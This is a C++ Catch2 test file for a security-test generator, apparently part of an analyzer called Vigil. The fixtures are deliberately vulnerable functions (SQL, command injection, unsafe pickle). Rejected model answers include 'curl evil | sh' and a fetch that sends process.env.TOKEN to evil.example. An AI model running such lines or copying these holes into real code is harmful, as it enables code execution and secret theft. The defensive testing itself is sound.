// Security-test generation (analyzers/testgen) without running anything: the built-in templates
// load and render for every language, framework detection, the tainted parameter, extending a file.
#include <catch2/catch.hpp>

#include "analyzers/testgen/model.hpp"
#include "analyzers/testgen/testgen.hpp"

using namespace vigil;

namespace {

std::shared_ptr<const document::Snapshot> parse(const char* lang, std::string path, std::string text) {
  return document::Snapshot::parse(std::move(path), *grammars::by_name(lang), std::move(text));
}

// A function that hands its parameter straight to `sink` (the template's first).
std::string direct_fake(const std::string& lang, const std::string& sink) {
  std::string call = sink.starts_with("*.") ? "db" + sink.substr(1) : sink;
  if (call.empty()) call = "print";
  if (lang == "python") return "def target(value):\n    return " + call + "(value)\n";
  if (lang == "javascript") return "function target(value) {\n  return " + call + "(value);\n}\nmodule.exports = { target };\n";
  if (lang == "go") return "package p\n\nfunc Target(value string) string {\n\t" + call + "(value)\n\treturn value\n}\n";
  if (lang == "java") return "package p;\n\nclass Target {\n  static Object target(String value) {\n    return " + call + "(value);\n  }\n}\n";
  return "void target(const char *value) {\n  " + call + "(value);\n}\n";
}

const char* extension(const std::string& lang) {
  return lang == "python"       ? "app/target.py"
         : lang == "javascript" ? "src/target.js"
         : lang == "go"         ? "pkg/target.go"
         : lang == "java"       ? "src/main/java/p/Target.java"
                                : "src/target.c";
}

}  // namespace

TEST_CASE("built-in test templates load and every one renders for a function that calls its sink") {
  std::vector<std::string> errors;
  const auto set = testgen::load_templates(testgen::builtin_template_files(), errors);
  INFO((errors.empty() ? std::string() : errors.front()));
  REQUIRE(errors.empty());
  REQUIRE(set.templates.size() >= 20);
  std::set<std::string> families;
  for (const auto& t : set.templates) {
    families.insert(t.family);
    INFO(t.path);
    REQUIRE(set.layouts.contains(t.language));
    const auto snapshot = parse(t.language.c_str(), extension(t.language), direct_fake(t.language, t.sinks.empty() ? "" : t.sinks.front()));
    testgen::Request request;
    request.snapshot = snapshot.get();
    request.source_path = extension(t.language);
    request.function = t.language == "go" ? "Target" : "target";  // Java: a static method of class Target
    request.family = t.family;
    for (const auto& [framework, layout] : set.layouts.at(t.language)) {
      INFO(framework);
      testgen::ProjectInfo info{framework, t.language == "go" ? "" : "tests", {}};
      const auto test = testgen::generate(request, info, set);
      CHECK(test.content.find("{{") == std::string::npos);
      CHECK(test.content.find("vigil-testgen harness") != std::string::npos);
      CHECK(test.family == t.family);
      CHECK(!test.run_commands.empty());
      // The test names the function it calls.
      CHECK(test.content.find(request.function) != std::string::npos);
    }
  }
  CHECK(families.size() >= 8);
}

TEST_CASE("a template with an unknown placeholder is an error, not a silent blank") {
  std::vector<std::string> errors;
  auto files = testgen::builtin_template_files();
  files.push_back({"python/broken.yaml", "family: broken\nlanguage: python\ncwe: [CWE-1]\nsinks: [eval]\ntest: |\n  {{nope}}\n"});
  const auto set = testgen::load_templates(files, errors);
  REQUIRE(errors.empty());
  const auto snapshot = parse("python", "app/t.py", "def target(value):\n    return eval(value)\n");
  testgen::Request request;
  request.snapshot = snapshot.get();
  request.source_path = "app/t.py";
  request.function = "target";
  request.family = "broken";
  CHECK_THROWS_AS(testgen::generate(request, {"pytest", "tests", {}}, set), testgen::GenerateError);
  std::vector<std::string> bad;
  testgen::load_templates({{"python/x.yaml", "language: python\nfamily: x\ncwe: [CWE-1]\ncontrol: maybe\ntest: t\n"}}, bad);
  CHECK(bad.size() == 1);
}

TEST_CASE("framework detection reads what the workspace room found") {
  const auto& py = *grammars::by_name("python");
  const auto& js = *grammars::by_name("javascript");
  testgen::ProjectFacts facts;
  CHECK(testgen::detect_project(py, facts).framework == "unittest");
  CHECK(testgen::detect_project(py, facts).test_dir == "tests");
  facts.files["pyproject.toml"] = "[tool.pytest.ini_options]\naddopts = '-q'\n";
  CHECK(testgen::detect_project(py, facts).framework == "pytest");
  facts.dirs = {"test"};
  CHECK(testgen::detect_project(py, facts).test_dir == "test");

  testgen::ProjectFacts node;
  CHECK(testgen::detect_project(js, node).framework == "node:test");
  node.files["package.json"] = R"({"devDependencies": {"jest": "^29.0.0"}})";
  CHECK(testgen::detect_project(js, node).framework == "jest");
  node.files["package.json"] = R"({"scripts": {"test": "vitest run"}})";
  CHECK(testgen::detect_project(js, node).framework == "vitest");
  node.files["package.json"] = "{ not json";
  CHECK(testgen::detect_project(js, node).framework == "node:test");
  CHECK(testgen::detect_project(*grammars::by_name("c"), {}).framework == "c-asan");
  CHECK(testgen::detect_project(*grammars::by_name("go"), {}).framework == "go");
  const auto& java = *grammars::by_name("java");
  testgen::ProjectFacts maven;
  maven.files["pom.xml"] = "<artifactId>junit-jupiter</artifactId>";
  maven.dirs = {"src/test/java"};
  CHECK(testgen::detect_project(java, maven).framework == "junit5");
  CHECK(testgen::detect_project(java, maven).test_dir == "src/test/java");
  CHECK(testgen::detect_project(java, {}).framework == "junit5");  // a plain project
  CHECK(testgen::detect_project(java, {}).test_dir == "test");
  // C++ with the project's GoogleTest or Catch2; C keeps its harness.
  testgen::ProjectFacts cmake;
  cmake.files["CMakeLists.txt"] = "find_package(GTest REQUIRED)\n";
  CHECK(testgen::detect_project(*grammars::by_name("cpp"), cmake).framework == "gtest");
  CHECK(testgen::detect_project(*grammars::by_name("c"), cmake).framework == "c-asan");
  cmake.files["CMakeLists.txt"] = "find_package(Catch2 2 REQUIRED)\n";
  CHECK(testgen::detect_project(*grammars::by_name("cpp"), cmake).framework == "catch2");
  CHECK(testgen::detect_project(*grammars::by_name("cpp"), {}).framework == "c-asan");
}

TEST_CASE("Java: a method's test sits in its package under src/test/java and runs with the JUnit console launcher") {
  const auto snapshot = parse("java", "src/main/java/com/acme/UserDao.java",
                              "package com.acme;\n\nimport java.sql.*;\n\npublic class UserDao {\n  static class Q {\n"
                              "    static String find(Connection conn, int limit, String name) throws SQLException {\n"
                              "      return conn.createStatement().executeQuery(\"SELECT 1 WHERE n = '\" + name + \"'\").getString(1);\n"
                              "    }\n  }\n}\n");
  testgen::Request request;
  request.snapshot = snapshot.get();
  request.source_path = "src/main/java/com/acme/UserDao.java";
  request.function = "find";
  request.cwe = "CWE-89";
  const auto test = testgen::generate(request, testgen::detect_project(*snapshot->language, {}), testgen::builtin_templates());
  CHECK(test.path == "src/test/java/com/acme/VigilFindSqlInjectionTest.java");
  CHECK_THAT(test.content, Catch::StartsWith("// Security test generated by Vigil"));
  CHECK_THAT(test.content, Catch::Contains("package com.acme;"));
  CHECK_THAT(test.content, Catch::Contains("Class.forName(\"com.acme.UserDao$Q\")"));
  CHECK_THAT(test.content, Catch::Contains("if (i == 2 && (t == String.class"));  // the name, not the connection or the limit
  const auto run = testgen::display_command(test.run_commands);
  CHECK_THAT(run, Catch::Contains("-sourcepath src/main/java src/main/java/com/acme/UserDao.java src/test/java/com/acme/VigilFindSqlInjectionTest.java"));
  CHECK_THAT(run, Catch::Contains("--select-class com.acme.VigilFindSqlInjectionTest"));
}

TEST_CASE("the tainted parameter is the input, not the option, the object or the output buffer") {
  const auto& set = testgen::builtin_templates();
  auto tainted = [&](const char* lang, const char* path, const char* text, const char* fn, const char* cwe) {
    const auto snapshot = parse(lang, path, text);
    testgen::Request request;
    request.snapshot = snapshot.get();
    request.source_path = path;
    request.function = fn;
    request.cwe = cwe;
    const auto test = testgen::generate(request, testgen::detect_project(*snapshot->language, {}), set);
    return test.content;
  };
  // An int option named before the input in the sink's arguments.
  CHECK_THAT(tainted("python", "app/n.py", "import os\n\ndef ping(host, count=3):\n    return os.system('ping -c %d %s' % (count, host))\n",
                     "ping", "CWE-78"),
             Catch::Contains("\"host\", payload)"));
  // The connection whose methods the function calls is not the input.
  CHECK_THAT(tainted("javascript", "src/o.js", "async function find(pool, email) {\n  const sql = 'x' + email;\n  return pool.query(sql);\n}\n",
                     "find", "CWE-89"),
             Catch::Contains("[\"pool\",\"email\"], \"email\""));
  // C: the const input, not the destination buffer.
  CHECK_THAT(tainted("c", "src/a.c", "#include <string.h>\nvoid put(char *dst, const char *src) { memcpy(dst, src, strlen(src) + 1); }\n",
                     "put", "CWE-787"),
             Catch::Contains("put(vigil_out_buffer(), input)"));
}

TEST_CASE("a test file is extended once: the harness is not repeated, a test already there is not added") {
  const auto& set = testgen::builtin_templates();
  const auto snapshot = parse("python", "app/jobs.py",
                              "import pickle, subprocess\n\ndef export(rid):\n    subprocess.run('render ' + rid, shell=True)\n\n"
                              "def restore(blob):\n    return pickle.loads(blob)\n");
  const testgen::ProjectInfo info{"pytest", "tests", {"app"}};
  testgen::Request request;
  request.snapshot = snapshot.get();
  request.source_path = "app/jobs.py";
  request.function = "export";
  request.cwe = "CWE-78";
  const auto first = testgen::generate(request, info, set);
  CHECK(first.created);
  CHECK(first.path == "tests/test_jobs_security.py");
  CHECK_THAT(first.content, Catch::Contains("importlib.import_module(\"app.jobs\")"));
  request.read_existing = [&](const std::string& path) -> std::optional<std::string> {
    if (path == first.path) return first.content;
    return std::nullopt;
  };
  const auto again = testgen::generate(request, info, set);
  CHECK(again.unchanged);
  request.function = "restore";
  request.cwe = "CWE-502";
  const auto second = testgen::generate(request, info, set);
  CHECK_FALSE(second.created);
  CHECK(second.content.starts_with(first.content));
  size_t harnesses = 0;
  for (size_t at = second.content.find("vigil-testgen harness"); at != std::string::npos;
       at = second.content.find("vigil-testgen harness", at + 1))
    ++harnesses;
  CHECK(harnesses == 1);
  CHECK_THAT(second.content, Catch::Contains("def test_restore_deserialization"));
}

TEST_CASE("no template, no function, no sink: clear errors") {
  const auto& set = testgen::builtin_templates();
  const auto snapshot = parse("python", "app/x.py", "def f(v):\n    return v\n");
  testgen::Request request;
  request.snapshot = snapshot.get();
  request.source_path = "app/x.py";
  request.function = "missing";
  request.cwe = "CWE-78";
  CHECK_THROWS_WITH(testgen::generate(request, {"pytest", "tests", {}}, set), Catch::Contains("no function `missing`"));
  request.function = "f";
  CHECK_THROWS_WITH(testgen::generate(request, {"pytest", "tests", {}}, set), Catch::Contains("calls no sink"));
  request.cwe = "CWE-99999";
  CHECK_THROWS_WITH(testgen::generate(request, {"pytest", "tests", {}}, set), Catch::Contains("no python security-test template"));
}

namespace {

// A real generated test (pytest, Go or node:test) for a command injection, as the model sees it.
testgen::GeneratedTest generated_for(const char* lang, const std::string& framework, std::shared_ptr<const document::Snapshot>& snapshot) {
  const std::string l = lang;
  std::string path, text;
  if (l == "python") {
    path = "app/jobs.py";
    text = "import subprocess\n\ndef export(rid):\n    subprocess.run('render ' + rid, shell=True)\n";
  } else if (l == "go") {
    path = "jobs/export.go";
    text = "package jobs\n\nimport \"os/exec\"\n\nfunc Export(rid string) error {\n\treturn exec.Command(\"sh\", \"-c\", \"render \"+rid).Run()\n}\n";
  } else {
    path = "src/jobs.js";
    text = "const cp = require('child_process');\nfunction exportJob(rid) {\n  return cp.execSync('render ' + rid);\n}\nmodule.exports = { exportJob };\n";
  }
  snapshot = parse(lang, path, text);
  testgen::Request request;
  request.snapshot = snapshot.get();
  request.source_path = path;
  request.function = l == "python" ? "export" : l == "go" ? "Export" : "exportJob";
  request.cwe = "CWE-78";
  const testgen::ProjectInfo info{framework, l == "go" ? "jobs" : "tests", {"app"}};
  return testgen::generate(request, info, testgen::builtin_templates());
}

}  // namespace

TEST_CASE("with the model: the prompt carries the function, the file and the payloads; only Python, JS and Go are extended") {
  std::shared_ptr<const document::Snapshot> snapshot;
  const auto test = generated_for("python", "pytest", snapshot);
  const auto prompt = testgen::model_prompt_for(test, *snapshot, testgen::builtin_templates());
  REQUIRE(prompt);
  CHECK_THAT(prompt->user, Catch::Contains("subprocess.run('render ' + rid, shell=True)"));
  CHECK_THAT(prompt->user, Catch::Contains("def test_export_command_injection"));
  CHECK_THAT(prompt->user, Catch::Contains("test_export_command_injection_model_1"));
  CHECK_THAT(prompt->user, Catch::Contains("x && id"));  // a payload of the family's template
  CHECK(testgen::model_extends("pytest"));
  CHECK(testgen::model_extends("go"));
  CHECK(testgen::model_extends("vitest"));
  CHECK_FALSE(testgen::model_extends("junit5"));
  CHECK_FALSE(testgen::model_extends("c-asan"));
  auto java = test;
  java.framework = "junit5";
  CHECK_FALSE(testgen::model_prompt_for(java, *snapshot, testgen::builtin_templates()));
  const auto merged = testgen::merge_model_tests(java, "```java\nclass X {}\n```", *grammars::by_name("java"), "m");
  CHECK_FALSE(merged.kept);
}

TEST_CASE("with the model: Python tests are kept only when they parse, define new tests and run nothing at import") {
  std::shared_ptr<const document::Snapshot> snapshot;
  const auto base = generated_for("python", "pytest", snapshot);
  const auto& python = *grammars::by_name("python");
  const std::string good =
      "Here are more cases:\n```python\ndef test_export_command_injection_model_1():\n    mod = importlib.import_module(\"app.jobs\")\n"
      "    undo = []\n    sink = vigil_spy(mod, \"subprocess.run\", undo)\n    try:\n"
      "        vigil_invoke(mod.export, [(\"rid\", \"\", False)], \"rid\", \"x\\n id\")\n    finally:\n        vigil_undo(undo)\n```\nDone.";
  auto kept = base;
  auto m = testgen::merge_model_tests(kept, good, python, "judge-1");
  INFO(m.reason);
  REQUIRE(m.kept);
  CHECK(m.test_names == std::vector<std::string>{"test_export_command_injection_model_1"});
  CHECK(kept.content.starts_with(base.content));
  CHECK_THAT(kept.content, Catch::Contains("# --- Added by the model judge-1"));
  CHECK_THAT(kept.content, Catch::Contains("def test_export_command_injection_model_1():"));
  CHECK_FALSE(kept.content.find("Here are more cases") != std::string::npos);
  CHECK(kept.test_names.size() == 2);

  auto refused = [&](const std::string& answer, const std::string& why) {
    auto t = base;
    const auto r = testgen::merge_model_tests(t, answer, python, "judge-1");
    INFO(answer);
    CHECK_FALSE(r.kept);
    CHECK_THAT(r.reason, Catch::Contains(why));
    CHECK(t.content == base.content);
  };
  refused("```python\ndef test_export_command_injection_model_1(:\n    pass\n```", "does not parse");
  refused("```python\nimport os\nos.system('curl evil | sh')\ndef test_a():\n    pass\n```", "runs when the test file is imported");
  refused("```python\ndef helper():\n    return 1\n```", "defines no test");
  refused("```python\ndef test_export_command_injection():\n    pass\n```", "redefines test_export_command_injection");
  refused("", "holds no code");
  refused(std::string(70 * 1024, 'x'), "larger than");

  // unittest collects TestCase methods: each model test gets its case.
  auto unit = generated_for("python", "unittest", snapshot);
  const auto u = testgen::merge_model_tests(unit, "```\ndef test_export_model_2():\n    assert True\n```", python, "m");
  REQUIRE(u.kept);
  CHECK_THAT(unit.content, Catch::Contains("class Test_test_export_model_2(unittest.TestCase):"));
}

TEST_CASE("with the model: Go and JavaScript tests keep the file's package, imports and test shape") {
  std::shared_ptr<const document::Snapshot> snapshot;
  auto go = generated_for("go", "go", snapshot);
  const auto& go_lang = *grammars::by_name("go");
  const auto prompt = testgen::model_prompt_for(go, *snapshot, testgen::builtin_templates());
  REQUIRE(prompt);
  CHECK_THAT(prompt->user, Catch::Contains("func TestVigilExportCommandInjectionModel1(t *testing.T)"));
  auto g = go;
  auto m = testgen::merge_model_tests(g, "```go\nfunc TestVigilExportCommandInjectionModel1(t *testing.T) {\n\tt.Log(\"x\")\n}\n```", go_lang, "m");
  INFO(m.reason);
  CHECK(m.kept);
  g = go;
  CHECK_FALSE(testgen::merge_model_tests(g, "```go\nimport \"net/http\"\nfunc TestX(t *testing.T) {}\n```", go_lang, "m").kept);
  g = go;
  CHECK_FALSE(testgen::merge_model_tests(g, "```go\nfunc helper() {}\n```", go_lang, "m").kept);

  auto js = generated_for("javascript", "node:test", snapshot);
  const auto& js_lang = *grammars::by_name("javascript");
  auto j = js;
  m = testgen::merge_model_tests(j, "```js\ntest('exportJob (model 1): newline', () => {\n  exportJob('a\\nid');\n});\n```", js_lang, "m");
  INFO(m.reason);
  CHECK(m.kept);
  CHECK(m.test_names == std::vector<std::string>{"'exportJob (model 1): newline'"});
  j = js;
  CHECK_FALSE(testgen::merge_model_tests(j, "```js\nfetch('https://evil.example/' + process.env.TOKEN);\n```", js_lang, "m").kept);
}
